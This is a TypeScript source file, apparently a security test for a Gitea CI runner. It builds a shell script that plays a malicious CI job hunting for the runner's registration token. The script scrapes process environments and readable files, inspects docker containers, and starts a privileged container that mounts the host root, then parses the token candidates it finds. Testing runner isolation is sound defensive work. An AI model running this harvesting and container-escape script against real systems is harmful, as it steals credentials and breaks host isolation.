/**
 * The CI job of somebody who wants the registration token. It prints each word that looks like one, and where it was. Gitea's
 * tokens are 40 letters and digits.
 *
 *   environment    its own, and that of every process that it may read
 *   files          all that it may read, in every mount, up to 4 MiB (the programs of the image are larger, and public)
 *   docker         containers, and one with the processes and the files of the container that dockerd runs in, and the rights to read them
 *                  (without a log: the hunt would find its own words in it, and go on for ever)
 */
function search(root: string): string {
  return `
look() { tr -cs 'A-Za-z0-9' '\\n' < "$1" 2>/dev/null | grep -E '^.{40}' | sort -u | sed "s|^|candidate $1 |"; }
for file in ${root}/proc/[0-9]*/environ ${root}/proc/[0-9]*/cmdline ${root}/proc/[0-9]*/mounts; do look "$file"; done
find ${root}/ -name proc -prune -o -name sys -prune -o -type f -size -4096k -print 2>/dev/null |
  while read -r file; do look "$file"; done
`;
}

/** A script for `sh`. */
export const HUNT = `
env | tr -cs 'A-Za-z0-9' '\\n' | grep -E '^.{40}' | sed 's|^|candidate environment |'
${search('')}
RIGHTS="--cap-add=SYS_PTRACE --cap-add=DAC_READ_SEARCH --cap-add=SYS_ADMIN --security-opt=seccomp=unconfined"
if docker info > /dev/null 2>&1; then
  docker ps -aq | while read -r id; do docker inspect "$id" | tr -cs 'A-Za-z0-9' '\\n' | grep -E '^.{40}'; done |
    sed 's|^|candidate inspect |'
  tar -C / -cf - bin | docker import - hunt > /dev/null
  docker run --rm --log-driver=none $RIGHTS --network=none -v /:/machine hunt /bin/sh -c '
    echo "docker sees $(cat /machine/proc/[0-9]*/environ | tr "\\000" "\\n" | grep -c ^PATH=) environments"
    ${search('/machine').replaceAll("'", `'"'"'`)}'
fi
echo "the hunt is over"
`;

/** Result of the hunt, from the log of its CI job. */
export interface Hunted {
  /** Files with something that looks like a token. */
  readonly places: readonly string[];
  readonly candidates: readonly string[];
  readonly environmentsSeenByDocker: number;
}

/** @throws when the hunt did not come to its end. */
export function hunted(log: string): Hunted {
  const found = [...log.matchAll(/candidate (\S+) ([A-Za-z0-9]{40,})/g)];
  if (!/the hunt is over\s*$/m.test(log)) throw new Error(`the hunt broke off:\n${log.slice(-3_000)}`);
  return {
    places: [...new Set(found.map(([, place = '']) => place))],
    candidates: [...new Set(found.map(([, , word = '']) => word))],
    environmentsSeenByDocker: Number(/docker sees (\d+) environments/.exec(log)?.[1] ?? 0),
  };
}
